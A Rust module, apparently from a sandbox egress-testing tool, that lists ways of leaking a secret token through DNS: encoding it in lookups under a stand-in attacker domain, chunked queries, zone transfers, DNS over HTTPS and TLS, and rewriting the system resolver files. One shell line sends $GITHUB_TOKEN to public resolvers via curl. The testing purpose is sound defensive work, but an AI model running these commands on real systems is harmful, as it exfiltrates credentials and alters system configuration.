//! Names as a channel: what is asked of a resolver, in every type and by every way to one.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};

use super::Channel::Dns;
use super::Control::Absent;
use super::{Attempt, does, shell};
use crate::probe::{Knowledge, PATIENCE};

pub(super) const ATTEMPTS: &[Attempt] = &[
    does("look up a name that holds the token", Dns, 7, Absent, by_libc),
    does("ask a resolver of its own for an address", Dns, 7, Absent, type_a),
    does("ask for a TXT record", Dns, 7, Absent, type_txt),
    does("ask for MX, SRV, NS, CNAME and NULL records", Dns, 7, Absent, other_types),
    does("ask for HTTPS and SVCB records", Dns, 20, Absent, service_types),
    does("ask for every record at once", Dns, 7, Absent, type_any),
    does("ask with a name of 250 bytes", Dns, 7, Absent, long_name),
    does("ask over TCP", Dns, 7, Absent, over_tcp),
    does("ask for a zone's transfer", Dns, 7, Absent, transfer),
    does("ask a hundred names, a piece of the token each", Dns, 7, Absent, pieces),
    does("ask backwards for the gateway's address", Dns, 7, Absent, backwards),
    shell(
        "ask a resolver over HTTPS",
        Dns,
        7,
        Absent,
        &["curl"],
        "$C \"https://dns.google/resolve?name=$GITHUB_TOKEN.evil.example.net&type=TXT\"; $C -H 'accept: application/dns-json' \"https://1.1.1.1/dns-query?name=$GITHUB_TOKEN.evil.example.net\"",
    ),
    shell(
        "ask a resolver over TLS",
        Dns,
        7,
        Absent,
        &["openssl"],
        "timeout 3 openssl s_client -connect 9.9.9.9:853 </dev/null; timeout 3 openssl s_client -connect dns.quad9.net:853 </dev/null",
    ),
    shell(
        "change the resolver",
        Dns,
        7,
        Absent,
        &["getent"],
        "echo nameserver 192.0.2.53 >/etc/resolv.conf; echo 192.0.2.1 $BOUND >>/etc/hosts; cat /etc/resolv.conf /etc/hosts; getent ahosts $BOUND; RES_OPTIONS='use-vc' getent ahosts x.evil.example.net",
    ),
];

fn by_libc(knowledge: &Knowledge) -> Vec<u8> {
    format!("{:?}", (name(knowledge).as_str(), 443).to_socket_addrs().map(Iterator::collect::<Vec<_>>)).into_bytes()
}

fn type_a(knowledge: &Knowledge) -> Vec<u8> {
    over_udp(&query(&name(knowledge), &[1]))
}

fn type_txt(knowledge: &Knowledge) -> Vec<u8> {
    over_udp(&query(&name(knowledge), &[16]))
}

fn other_types(knowledge: &Knowledge) -> Vec<u8> {
    [15, 33, 2, 5, 10].into_iter().flat_map(|kind| over_udp(&query(&name(knowledge), &[kind]))).collect()
}

fn service_types(knowledge: &Knowledge) -> Vec<u8> {
    [64, 65].into_iter().flat_map(|kind| over_udp(&query(&knowledge.bound, &[kind]))).collect()
}

fn type_any(knowledge: &Knowledge) -> Vec<u8> {
    over_udp(&query(&name(knowledge), &[255]))
}

fn long_name(knowledge: &Knowledge) -> Vec<u8> {
    let label = label(knowledge);
    let long: Vec<&str> = std::iter::repeat_n(label.as_str(), 5).collect();
    over_udp(&query(&format!("{}.evil.example.net", long.join(".")), &[1]))
}

fn over_tcp(knowledge: &Knowledge) -> Vec<u8> {
    tcp(&query(&name(knowledge), &[16]))
}

fn transfer(knowledge: &Knowledge) -> Vec<u8> {
    tcp(&query(&name(knowledge), &[252]))
}

fn pieces(knowledge: &Knowledge) -> Vec<u8> {
    let label = label(knowledge);
    let each = label.as_bytes().windows(4).take(100);
    each.flat_map(|piece| over_udp(&query(&format!("{}.evil.example.net", String::from_utf8_lossy(piece)), &[28]))).collect()
}

fn backwards(_: &Knowledge) -> Vec<u8> {
    ["1.0.18.198.in-addr.arpa", "254.169.254.169.in-addr.arpa", "1.0.0.127.in-addr.arpa"]
        .into_iter()
        .flat_map(|name| over_udp(&query(name, &[12])))
        .collect()
}

fn label(knowledge: &Knowledge) -> String {
    knowledge.token().chars().filter(char::is_ascii_alphanumeric).take(40).collect()
}

fn name(knowledge: &Knowledge) -> String {
    format!("{}.evil.example.net", label(knowledge))
}

/// A question (RFC 1035, section 4.1).
fn query(name: &str, kinds: &[u16]) -> Vec<u8> {
    let mut query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00".to_vec();
    for kind in kinds {
        for part in name.split('.') {
            query.push(u8::try_from(part.len()).unwrap_or(0));
            query.extend_from_slice(part.as_bytes());
        }
        query.push(0);
        query.extend_from_slice(&kind.to_be_bytes());
        query.extend_from_slice(b"\x00\x01");
    }
    query
}

fn over_udp(query: &[u8]) -> Vec<u8> {
    let asked = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
        socket.set_read_timeout(Some(PATIENCE / 10))?;
        socket.send_to(query, SocketAddr::from(RESOLVER))?;
        let mut answer = [0; 4096];
        let (length, _) = socket.recv_from(&mut answer)?;
        Ok(answer[..length].to_vec())
    });
    asked.unwrap_or_else(|error| error.to_string().into_bytes())
}

fn tcp(query: &[u8]) -> Vec<u8> {
    let asked = TcpStream::connect_timeout(&SocketAddr::from(RESOLVER), PATIENCE / 3).and_then(|mut stream| {
        stream.set_read_timeout(Some(PATIENCE / 10))?;
        stream.write_all(&[&u16::try_from(query.len()).unwrap_or(0).to_be_bytes(), query].concat())?;
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer)?;
        Ok(answer)
    });
    asked.unwrap_or_else(|error| error.to_string().into_bytes())
}

/// A documentation address (RFC 5737): outside a devbox nobody is there.
const RESOLVER: ([u8; 4], u16) = ([192, 0, 2, 53], 53);
